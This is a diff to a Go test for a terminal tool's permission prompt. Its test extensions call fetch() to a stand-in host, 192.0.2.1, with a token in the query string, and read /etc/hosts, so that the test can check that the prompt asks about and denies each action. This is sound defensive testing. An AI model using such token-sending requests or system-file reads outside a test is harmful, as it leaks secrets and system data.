@@ -125,27 +125,27 @@ func TestTerminalAsksTheSame(t *testing.T) {
 // TestScreenQuestionSaysAll: a question about a request has the whole URL, one about a read has the line that asks, and a No that was given
 // is not told of once more.
 func TestScreenQuestionSaysAll(t *testing.T) {
-	p := startInTerminal(t, "run", writeExtension(t, `import { readFileSync } from "node:fs";
-		export default (pi) => pi.registerCommand("go", { handler: async (_a, ctx) => {
-			try { await fetch("http://192.0.2.1/up?q=what%20leaves&token=abc#no"); } catch {}
-			try { readFileSync("/etc/hosts"); } catch {}
-			ctx.shutdown();
-		} });`))
-	p.welcomes("shown")
-	p.shows("/ for commands")
-	p.types("/go\r")
-	p.shows("GET http://192.0.2.1/up?q=what%20leaves&token=abc")
-	p.shows("shown.ts:3")
-	p.pause()
-	p.types("\r")
-	p.shows("wants to read")
-	p.shows("shown.ts:4")
-	p.pause()
-	p.types("\r")
-	_ = p.cmd.Wait()
-	_ = p.tty.Close()
-	<-p.read
-	if text := sequences.ReplaceAllString(p.wrote(), ""); strings.Contains(text, "denied: ") || !strings.Contains(text, "✗ shown may not read /etc/hosts") {
-		t.Errorf("it was not said once: %q", text[max(0, len(text)-2000):])
+	for _, tt := range []struct{ code, shows, line string }{
+		{`fetch("http://192.0.2.1/up?q=what%20leaves&token=abc#no")`, "GET http://192.0.2.1/up?q=what%20leaves&token=abc", "✗ shown may not reach GET http://192.0.2.1/up"},
+		{`readFileSync("/etc/hosts")`, "/etc/hosts", "✗ shown may not read /etc/hosts"},
+	} {
+		p := startInTerminal(t, "run", writeExtension(t, `import { readFileSync } from "node:fs";
+			export default (pi) => pi.registerCommand("go", { handler: async (_a, ctx) => {
+				try { await `+tt.code+`; } catch {}
+				ctx.shutdown();
+			} });`))
+		p.welcomes("shown")
+		p.shows("/ for commands")
+		p.types("/go\r")
+		p.shows(tt.shows)
+		p.shows("shown.ts:3")
+		p.pause()
+		p.types("\r")
+		_ = p.cmd.Wait()
+		_ = p.tty.Close()
+		<-p.read
+		if text := sequences.ReplaceAllString(p.wrote(), ""); strings.Contains(text, "denied: ") || !strings.Contains(text, tt.line) {
+			t.Errorf("it was not said once: %q", text[max(0, len(text)-2000):])
+		}
 	}
 }
